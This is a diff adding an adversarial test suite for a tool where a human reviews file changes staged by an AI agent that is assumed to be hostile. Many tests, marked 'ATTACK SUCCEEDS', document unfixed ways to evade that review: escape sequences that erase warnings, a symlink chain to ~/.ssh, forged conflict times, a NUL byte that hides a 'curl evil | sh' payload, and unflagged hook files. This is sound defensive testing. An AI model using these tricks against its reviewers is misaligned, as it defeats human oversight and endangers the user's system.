@@ -1,0 +1,396 @@
+// Adversarial review of review shares (THREAT-MODEL A31): the agent (hostile) writes into its
+// overlay whatever it likes (names, bytes, types, modes, xattrs, links, depth) and the human then
+// runs `au changes`, `au accept`, `au discard`. Every attack tried is a test: one the defence
+// stops is a plain passing test; one that succeeds is marked todo 'ATTACK SUCCEEDS: ...'.
+import assert from 'node:assert/strict';
+import { lstatSync, readFileSync, readdirSync, readlinkSync } from 'node:fs';
+import { after, before, describe, test } from 'node:test';
+import { type ChildProcess } from 'node:child_process';
+import { join } from 'node:path';
+import { background } from '../helpers/background.js';
+import { type Human, type Result, createHuman, packageForHumans, sh } from '../helpers/system.js';
+
+const REVIEW_ROOT = '/var/lib/agent-as-unix-user/review';
+
+interface JsonChange { path: string; kind: string; type: string; risky: boolean; reasons: string[]; refused?: string; conflict?: string; from?: string; target?: string; mode?: string; oldMode?: string }
+
+describe('review shares: attacks', () => {
+  let human: Human;
+  let agent: string;
+  let src: string;
+  let tgt: string;
+  let stage: string;
+  const children: ChildProcess[] = [];
+
+  const said = (r: Result): string => `status ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`;
+  const inRun = (script: string): Result => {
+    const r = human.au(['run', '-a', agent, '-d', tgt, '--', 'bash', '-c', script], { timeoutMs: 120_000 });
+    assert.equal(r.status, 0, said(r));
+    return r;
+  };
+  const asHuman = (script: string): Result => {
+    const r = human.run(['bash', '-c', script]);
+    assert.equal(r.status, 0, said(r));
+    return r;
+  };
+  const changesJson = (): JsonChange[] => {
+    const r = human.au(['changes', '-a', agent, '--json'], { timeoutMs: 60_000 });
+    assert.equal(r.status, 0, said(r));
+    return (JSON.parse(r.stdout) as { changes: JsonChange[] }[])[0]!.changes;
+  };
+  /** Nothing staged again (as root, so that even a tree au cannot walk goes). */
+  const reset = (): void => {
+    sh(['bash', '-c', `shopt -s dotglob; rm -rf --one-file-system ${stage}/upper/*`]);
+  };
+
+  before(() => {
+    human = createHuman();
+    agent = human.newAgent();
+    src = `${human.home}/proj`;
+    tgt = `/home/${agent}/proj`;
+    asHuman([
+      `mkdir -p ${src}/sub ${src}/docs && cd ${src}`,
+      'echo hello > a.txt && printf "#!/bin/sh\\necho build\\n" > build.sh && chmod 755 build.sh && echo x > sub/x',
+      'echo one > docs/one.md && echo two > docs/two.md',
+      `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json`,
+    ].join(' && '));
+    const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
+    assert.equal(add.status, 0, said(add));
+    const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
+    stage = `${REVIEW_ROOT}/${agent}/${entry}`;
+  });
+  after(() => {
+    for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
+    human.cleanup();
+    sh(['rm', '-rf', `${REVIEW_ROOT}/${agent}`]);
+  });
+
+  test('escape sequences in a refused symlink target reach the human raw through `au changes` and `--diff` (REFUSED text not escaped)', { todo: 'ATTACK SUCCEEDS: c.refused embeds the raw target; describeChange and the diff meta line print it without printable(); CSI A/K pass the terminal filter, so the agent erases the RISKY lines above' }, () => {
+    try {
+      // Sorted last ("zz"), its line moves the cursor up and erases the lines listed before it.
+      inRun(`printf '#!/bin/sh\\n' > Makefile && ln -s "$(printf '/x\\033[1A\\033[2K\\033[1A\\033[2K')" zz`);
+      const text = human.au(['changes', '-a', agent]);
+      assert.equal(text.status, 0, said(text));
+      const diff = human.au(['changes', '-a', agent, '--diff']);
+      const dry = human.au(['accept', '--dry-run', '-a', agent, '--include-risky']);
+      const raw = { changes: text.stdout.includes('\x1b[1A'), diff: diff.stdout.includes('\x1b[1A'), acceptDryRun: dry.stdout.includes('\x1b[1A') };
+      assert.deepEqual(raw, { changes: false, diff: false, acceptDryRun: false }, `agent bytes raw in the output: ${JSON.stringify(text.stdout)}`);
+    } finally {
+      reset();
+    }
+  });
+
+  test('escape sequences, C1 controls, bidi overrides and newlines in names and in-share symlink targets are escaped by `au changes`', () => {
+    try {
+      inRun(`touch "$(printf 'a\\033]52;c;cHduZWQ=\\007')" "$(printf 'b\\302\\233 2J')" "$(printf 'c\\342\\200\\256txt.sh')" "$(printf 'd\\nRISKY none')" && ln -s "$(printf 'sub/\\033[2J')" e`);
+      const text = human.au(['changes', '-a', agent]);
+      assert.equal(text.status, 0, said(text));
+      assert.ok(!/[\x1b\x07\u009b\u202e]/.test(text.stdout), JSON.stringify(text.stdout));
+      assert.ok(!/^RISKY none/m.test(text.stdout), 'a newline in a name made a line of its own');
+    } finally {
+      reset();
+    }
+  });
+
+  test('a symlink whose target is lexically inside the share but leaves it through another agent symlink (a -> ., b -> a/../..) is not refused: accepted, SRC points outside', { todo: 'ATTACK SUCCEEDS: targetLeavesShare normalises lexically; "a/../x" with a -> . resolves to the parent of SRC; refuse targets through symlinks (resolve with the staged/SRC links) or refuse any symlink-to-symlink / ".." component' }, () => {
+    try {
+      inRun('ln -s . a && ln -s a/../.ssh keys');
+      const c = changesJson();
+      const keys = c.find((x) => x.path === 'keys');
+      assert.ok(keys, JSON.stringify(c));
+      if (!keys.refused) {
+        const r = human.au(['accept', '-a', agent, 'a', 'keys']);
+        assert.equal(r.status, 0, said(r));
+        asHuman(`mkdir -p ${human.home}/.ssh`);
+        const real = sh(['readlink', '-f', `${src}/keys`]).stdout.trim(); // the kernel's resolution (Node's realpath is lexical here)
+        assert.ok(real.startsWith(`${src}/`), `SRC/keys resolves to ${real}, outside the share`);
+      }
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/a`, `${src}/keys`]);
+    }
+  });
+
+  test('a FIFO, a socket: listed as refused, `au changes` and `au accept` do not block on them, nothing applied', () => {
+    try {
+      inRun('mkfifo fifo && python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.bind(\'sock\')" 2>/dev/null; mkfifo package.json.tmp; rm -f a.txt && mkfifo a.txt');
+      const c = changesJson();
+      for (const p of ['fifo', 'a.txt']) assert.ok(c.find((x) => x.path === p)?.refused, `${p}: ${JSON.stringify(c)}`);
+      const r = human.au(['accept', '-a', agent, '--include-risky'], { timeoutMs: 30_000 });
+      assert.notEqual(r.status, null, 'au accept hung');
+      assert.ok(lstatSync(`${src}/a.txt`).isFile(), 'a.txt replaced');
+      assert.ok(!readdirSync(src).includes('fifo'));
+    } finally {
+      reset();
+    }
+  });
+
+  test('set-uid / set-gid / sticky bits: risky, and dropped by accept; staged files stay unreachable', () => {
+    try {
+      inRun('cp /bin/true suid && chmod 6755 suid && mkdir gdir && chmod 2777 gdir && chmod 4755 build.sh');
+      const c = changesJson();
+      assert.ok(c.find((x) => x.path === 'suid')?.risky);
+      assert.ok(c.find((x) => x.path === 'build.sh')?.risky, JSON.stringify(c));
+      const r = human.au(['accept', '-a', agent, '--include-risky']);
+      assert.equal(r.status, 0, said(r));
+      for (const p of ['suid', 'build.sh', 'gdir']) assert.equal(lstatSync(`${src}/${p}`).mode & 0o6000, 0, p);
+      assert.equal(lstatSync(stage).mode & 0o777, 0o700);
+    } finally {
+      reset();
+      sh(['rm', '-rf', `${src}/suid`, `${src}/gdir`]);
+      sh(['chmod', '755', `${src}/build.sh`]);
+    }
+  });
+
+  test('world-writable modes (chmod 0777 on a folder, 0666 on a file of the human) are applied by a plain `au accept`, not flagged', { todo: 'ATTACK SUCCEEDS: a mode change that adds group/other write is not risky; the human\'s folder becomes writable by every local user; flag (or refuse) g+w/o+w, or mask with the SRC mode' }, () => {
+    try {
+      inRun('chmod 0777 sub && chmod 0666 a.txt && chmod 0777 build.sh');
+      const r = human.au(['accept', '-a', agent]);
+      assert.equal(r.status, 0, said(r));
+      for (const p of ['sub', 'a.txt', 'build.sh']) assert.equal(lstatSync(`${src}/${p}`).mode & 0o022, 0, `${p} is now ${(lstatSync(`${src}/${p}`).mode & 0o777).toString(8)}`);
+    } finally {
+      reset();
+      sh(['chmod', '755', `${src}/sub`, `${src}/build.sh`]);
+      sh(['chmod', '644', `${src}/a.txt`]);
+    }
+  });
+
+  test('a folder of mode 000 (or a package.json of mode 000) in the upper layer makes `au changes`, `au accept` and `au discard` fail for every change', { todo: 'ATTACK SUCCEEDS: the scan opens the agent\'s directories/files as the human without unlocking them (EACCES): one chmod 0 blocks au changes, au accept and au discard of everything (only au mount remove --discard-changes, as root, clears it); treat EACCES like removeTree does (O_PATH + chmod u+rwx on the human-owned upper entry) or report the entry as refused' }, () => {
+    try {
+      inRun('echo good > good.txt && mkdir locked && echo y > locked/y && chmod 000 locked');
+      const statuses = {
+        changes: human.au(['changes', '-a', agent, '--json']).status,
+        accept: human.au(['accept', '-a', agent, 'good.txt']).status,
+        discard: human.au(['discard', '-a', agent, 'good.txt']).status,
+        discardAll: human.au(['discard', '-a', agent]).status,
+      };
+      assert.deepEqual(statuses, { changes: 0, accept: 0, discard: 0, discardAll: 0 });
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/good.txt`]);
+    }
+  });
+
+  test('deep nesting (2000 folders): `au changes` and `au discard` survive (no stack overflow), nothing half-applied', { todo: 'ATTACK SUCCEEDS: the scan and removeTree recurse in JS, one fd and several frames per level: a deep tree the agent makes in seconds crashes au changes/accept/discard (RangeError/EMFILE); walk iteratively with a depth limit and report the subtree as refused' }, () => {
+    try {
+      // One process, no fork per level (2000 levels: each a single component, no path ever near PATH_MAX).
+      inRun(`python3 -c "import os,time; t=time.time(); os.mkdir('deep'); os.chdir('deep')\nfor i in range(2000): os.mkdir('d'); os.chdir('d')\nopen('f','w').write('end'); print('made in', time.time()-t)"`);
+      const run = (args: string[]): string => {
+        const r = human.au(args, { timeoutMs: 120_000 });
+        return r.status === 0 ? 'ok' : `${r.status}: ${r.stderr.trim().slice(0, 200)}`;
+      };
+      const got = { changes: run(['changes', '-a', agent, '--json']), accept: run(['accept', '-a', agent, 'deep']), discard: run(['discard', '-a', agent]) };
+      assert.deepEqual(got, { changes: 'ok', accept: 'ok', discard: 'ok' });
+    } finally {
+      reset();
+    }
+  });
+
+  test('naming the OLD path of a rename applies the risky new path (mv build.sh .husky/pre-commit; au accept build.sh)', { todo: 'ATTACK SUCCEEDS: selectChanges treats c.from === named as exact, so a risky rename target is applied when only its harmless source was named; require the new path itself to be named for risky renames' }, () => {
+    try {
+      inRun('mkdir -p .husky && mv build.sh .husky/pre-commit');
+      const c = changesJson();
+      const ren = c.find((x) => x.kind === 'renamed');
+      assert.ok(ren?.risky, JSON.stringify(c));
+      const r = human.au(['accept', '-a', agent, 'build.sh']);
+      assert.equal(r.status, 0, said(r));
+      assert.ok(!readdirSync(src).includes('.husky'), 'the risky .husky/pre-commit was applied');
+    } finally {
+      reset();
+      sh(['rm', '-rf', `${src}/.husky`]);
+      asHuman(`cd ${src} && test -e build.sh || { printf "#!/bin/sh\\necho build\\n" > build.sh && chmod 755 build.sh; }`);
+    }
+  });
+
+  test('a folder replaced by a file: `au changes` shows one "modified" file and hides that the folder and every file in it are deleted by accept', { todo: 'ATTACK SUCCEEDS: a dir->file (or dir->symlink) replacement is listed as kind modified/type file only; replace() then removeTree()s the human\'s folder; list the folder\'s entries as deletions (or a type change) so the human sees what goes' }, () => {
+    try {
+      inRun('rm -rf docs && echo notes > docs');
+      const c = changesJson();
+      const d = c.filter((x) => x.path.startsWith('docs'));
+      assert.ok(d.some((x) => x.path === 'docs/one.md' && x.kind === 'deleted') || d.some((x) => /type|replac|folder|director/i.test(`${x.kind} ${x.reasons.join()} ${x.conflict ?? ''}`)), JSON.stringify(d));
+    } finally {
+      reset();
+    }
+  });
+
+  test('a sparse file (truncate -s 1G, a few KiB staged) is copied into the human\'s folder as 1 GiB of real blocks by a plain `au accept`', { todo: 'ATTACK SUCCEEDS: copyIn writes every zero byte: `truncate -s 1T` in the overlay costs the agent nothing in STAGE and fills the human\'s disk on accept (A5); keep holes (SEEK_DATA/SEEK_HOLE or copy_file_range) or flag/refuse files above a size unless named' }, () => {
+    try {
+      inRun('truncate -s 1G sparse.bin && echo x >> sparse.bin');
+      const staged = lstatSync(`${stage}/upper/sparse.bin`);
+      assert.ok(staged.blocks * 512 < 1 << 20, 'sparse in STAGE');
+      const r = human.au(['accept', '-a', agent, 'sparse.bin'], { timeoutMs: 120_000 });
+      assert.equal(r.status, 0, said(r));
+      const applied = lstatSync(`${src}/sparse.bin`);
+      assert.ok(applied.blocks * 512 < 64 << 20, `SRC/sparse.bin takes ${Math.round((applied.blocks * 512) / (1 << 20))} MiB of disk`);
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/sparse.bin`]);
+    }
+  });
+
+  test('a file replaced by a folder: listed only as "added a.txt/", accept deletes the human\'s file with no deletion shown', { todo: 'ATTACK SUCCEEDS: directory() pushes kind added even when SRC has a file there; applyOne unlinks it; list it as a replacement (deleted file + added folder)' }, () => {
+    try {
+      inRun('rm a.txt && mkdir a.txt && echo in > a.txt/in');
+      const c = changesJson().filter((x) => x.path === 'a.txt');
+      assert.ok(c.some((x) => x.kind === 'deleted' || x.kind === 'modified' || /replac|type/i.test(x.reasons.join())), JSON.stringify(c));
+    } finally {
+      reset();
+    }
+  });
+
+  test('the conflict flag is bypassed: the agent re-creates its staged file (new inode, new birth time) after the human edited SRC, so a plain `au accept` reverts the human\'s edit', { todo: 'ATTACK SUCCEEDS: conflict = SRC ctime > the upper inode\'s birth time, a time the agent resets at will (cp+mv, or delete+recreate for a whiteout); record SRC\'s ctime/ino when the agent first staged the path (au-owned, outside the agent\'s reach) or compare with the lower version overlay copied up' }, () => {
+    try {
+      asHuman(`echo base > ${src}/c.txt && echo base > ${src}/d.txt`);
+      inRun('echo agent > c.txt && rm d.txt');
+      asHuman(`sleep 1; echo "human edit" > ${src}/c.txt; echo "human edit" > ${src}/d.txt`);
+      const flagged = changesJson().filter((x) => x.conflict).map((x) => x.path).sort();
+      assert.deepEqual(flagged, ['c.txt', 'd.txt'], 'the honest case is flagged');
+      // The agent refreshes: same content, new inode / new whiteout.
+      inRun('sleep 1; cp c.txt .t && mv .t c.txt && echo x > d.txt && rm d.txt');
+      const after = changesJson().filter((x) => x.conflict).map((x) => x.path).sort();
+      assert.deepEqual(after, ['c.txt', 'd.txt'], 'the conflict vanished after the agent re-created its entries');
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/c.txt`, `${src}/d.txt`]);
+    }
+  });
+
+  test('what `au accept` applies is what is staged at accept time, not what `au changes --diff` showed: a later run swaps the bytes of a reviewed, non-risky file', { todo: 'ATTACK SUCCEEDS (design): no binding between the reviewed listing and accept; with a long session the agent edits after the human looked; let au changes print a digest of the listing and au accept --expect DIGEST refuse when the stage differs' }, () => {
+    try {
+      inRun('echo "console.log(1)" > tool.js');
+      const shown = human.au(['changes', '-a', agent, '--diff']).stdout;
+      assert.match(shown, /console\.log\(1\)/);
+      inRun('echo "require(\'child_process\').execSync(\'id\')" > tool.js');
+      const r = human.au(['accept', '-a', agent, 'tool.js']);
+      assert.equal(r.status, 0, said(r));
+      assert.equal(readFileSync(`${src}/tool.js`, 'utf8'), 'console.log(1)\n', 'accept applied bytes the human never reviewed');
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/tool.js`]);
+    }
+  });
+
+  test('a mode-000 folder also hides the pending changes from `au sessions list` (counted as 0, silently)', { todo: 'ATTACK SUCCEEDS: awaitingReview() swallows the EACCES and reports nothing awaiting review; say the share is unreadable instead' }, async () => {
+    const server = background(['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), 'server', 'run'], children, human.home);
+    try {
+      inRun('echo pending > pending.txt');
+      const listed = async (): Promise<string> => {
+        const deadline = Date.now() + 20_000;
+        for (;;) {
+          const r = human.au(['sessions', 'list']);
+          if (r.status === 0 || Date.now() > deadline) return r.stdout + r.stderr;
+          await new Promise((resolve) => setTimeout(resolve, 200));
+        }
+      };
+      assert.match(await listed(), new RegExp(`agent ${agent}: 1 change awaits review`), 'the honest case is counted');
+      inRun('mkdir locked && chmod 000 locked');
+      assert.match(await listed(), new RegExp(`${agent}.*(await|review|unreadable)`), 'the pending change vanished from au sessions list');
+    } finally {
+      await server.stop();
+      reset();
+    }
+  });
+
+  test('a NUL byte in a JS comment makes `au changes --diff` hide the whole content as "Binary files differ"; node still runs it; not risky', { todo: 'ATTACK SUCCEEDS: isBinary() (a NUL in the first 8000 bytes) decides the diff shows nothing; a JS file with /*\\0*/ runs under node and is applied by a plain au accept unseen; show such files escaped (the terminal path already escapes every control) or flag text-looking files with NULs' }, () => {
+    try {
+      inRun(`printf '/*\\000*/ require("child_process").execSync("curl evil | sh")\\n' > index.js`);
+      const diff = human.au(['changes', '-a', agent, '--diff']);
+      assert.equal(diff.status, 0, said(diff));
+      assert.match(diff.stdout, /curl evil/, `the diff hid the content: ${JSON.stringify(diff.stdout.slice(0, 400))}`);
+    } finally {
+      reset();
+    }
+  });
+
+  test('user.overlay.* xattrs forged through the mount (opaque, whiteout, redirect) do not reach upper as overlay markers', () => {
+    try {
+      inRun('mkdir -p sub && touch sub/n && (setfattr -n user.overlay.opaque -v y sub; setfattr -n user.overlay.whiteout -v y sub/n; setfattr -n user.overlay.redirect -v /x sub; true) 2>/dev/null');
+      const got = sh(['getfattr', '-d', '-m', '^user\\.overlay\\.', '--absolute-names', `${stage}/upper/sub`, `${stage}/upper/sub/n`]).stdout;
+      assert.doesNotMatch(got, /^user\.overlay\.(opaque|whiteout|redirect)=/m, got);
+      const c = changesJson();
+      assert.ok(!c.some((x) => x.path === 'sub/x' && x.kind === 'deleted'), 'a forged opaque marker hid sub/x');
+    } finally {
+      reset();
+    }
+  });
+
+  test('hard links inside the overlay: accepted as separate files, SRC shares no inode with upper', () => {
+    try {
+      inRun('echo hl > h1 && ln h1 h2');
+      const r = human.au(['accept', '-a', agent, 'h1', 'h2']);
+      assert.equal(r.status, 0, said(r));
+      assert.equal(lstatSync(`${src}/h1`).nlink, 1);
+      assert.equal(readFileSync(`${src}/h2`, 'utf8'), 'hl\n');
+    } finally {
+      reset();
+      sh(['rm', '-f', `${src}/h1`, `${src}/h2`]);
+    }
+  });
+
+  test('code the human\'s tools run, on paths the risk list lacks, is applied by a plain `au accept` (lint-staged, lefthook, .hg/hgrc, .cargo/config.toml, .pnpmfile.cjs, binding.gyp, yarnPath release)', { todo: 'ATTACK SUCCEEDS: risky.ts is a short list: these paths run agent code on git commit / hg status / cargo / pnpm / npm install / yarn, yet none is flagged; add them (and package.json fields beyond scripts: lint-staged, husky, simple-git-hooks, gypfile, dependency URLs)' }, () => {
+    const paths = ['.lintstagedrc.json', 'lefthook.yml', '.hg/hgrc', '.cargo/config.toml', '.pnpmfile.cjs', 'binding.gyp', '.yarn/releases/yarn-4.0.0.cjs'];
+    try {
+      inRun(`mkdir -p .hg .cargo .yarn/releases && for p in ${paths.join(' ')}; do echo "evil" > $p; done && sed -i 's/"name": "p"/"name": "p", "lint-staged": { "*": "sh -c evil" }/' package.json`);
+      const c = changesJson();
+      const missed = [...paths, 'package.json'].filter((p) => !c.find((x) => x.path === p)?.risky);
+      assert.deepEqual(missed, [], `not flagged risky: ${missed.join(', ')}`);
+    } finally {
+      reset();
+    }
+  });
+
+  test('`au accept` while a run holds the share is refused (the agent cannot race accept from inside a run)', async () => {
+    const holder = background(['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), 'run', '-a', agent, '-d', tgt, '--', 'bash', '-c', 'echo v1 > race.txt; echo holding; for i in $(seq 200); do echo "evil $i" > race.txt; sleep 0.05; done'], children, human.home);
+    try {
+      const deadline = Date.now() + 30_000;
+      while (!holder.output().includes('holding') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+      assert.match(holder.output(), /holding/);
+      const r = human.au(['accept', '-a', agent]);
+      assert.notEqual(r.status, 0, said(r));
+      assert.match(r.stderr, /using this share/);
+      assert.ok(!readdirSync(src).includes('race.txt'), 'accepted while a run held the share');
+    } finally {
+      await holder.stop();
+      reset();
+      sh(['rm', '-f', `${src}/race.txt`]);
+    }
+  });
+
+  test('a 255-byte name and a long path: listed and accepted within SRC; invalid UTF-8 refused', () => {
+    try {
+      inRun(`mkdir -p l && touch "l/${'x'.repeat(255)}" "$(printf 'bad\\377')"`);
+      const c = changesJson();
+      assert.ok(c.find((x) => x.path.startsWith('bad'))?.refused, JSON.stringify(c.map((x) => x.path)));
+      const r = human.au(['accept', '-a', agent, 'l']);
+      assert.equal(r.status, 0, said(r));
+      assert.ok(lstatSync(`${src}/l/${'x'.repeat(255)}`).isFile());
+      assert.ok(!readdirSync(src).some((n) => n.startsWith('bad')));
+    } finally {
+      reset();
+      sh(['rm', '-rf', `${src}/l`]);
+    }
+  });
+
+  test('a staged symlink named like a folder of SRC does not make accept write through it', () => {
+    try {
+      inRun('rm -rf sub && ln -s /etc sub');
+      const r = human.au(['accept', '-a', agent, '--include-risky']);
+      // refused (outside) and nothing written under /etc
+      assert.ok(lstatSync(`${src}/sub`).isDirectory(), said(r));
+      assert.equal(readlinkSync('/proc/self/exe').length > 0, true);
+    } finally {
+      reset();
+    }
+  });
+
+  test('after the DoS trees (mode 000, 2000 levels), `au mount remove --discard-changes` still clears the stage as root, touching nothing in SRC (held: the way out)', () => {
+    inRun(`mkdir locked && chmod 000 locked && python3 -c "import os; os.mkdir('deep'); os.chdir('deep')\nfor i in range(2000): os.mkdir('d'); os.chdir('d')"`);
+    const before = sh(['bash', '-c', `cd ${src} && find . -printf '%p %m %s\\n' | sort | sha256sum`]).stdout;
+    const kept = human.au(['mount', 'remove', '-y', '-a', agent, src]);
+    assert.notEqual(kept.status, 0, `removed without --discard-changes: ${said(kept)}`);
+    const r = human.au(['mount', 'remove', '-y', '--discard-changes', '-a', agent, src], { timeoutMs: 120_000 });
+    assert.equal(r.status, 0, said(r));
+    assert.notEqual(sh(['test', '-e', stage]).status, 0, 'STAGE left behind');
+    assert.equal(sh(['bash', '-c', `cd ${src} && find . -printf '%p %m %s\\n' | sort | sha256sum`]).stdout, before, 'SRC changed');
+  });
+});
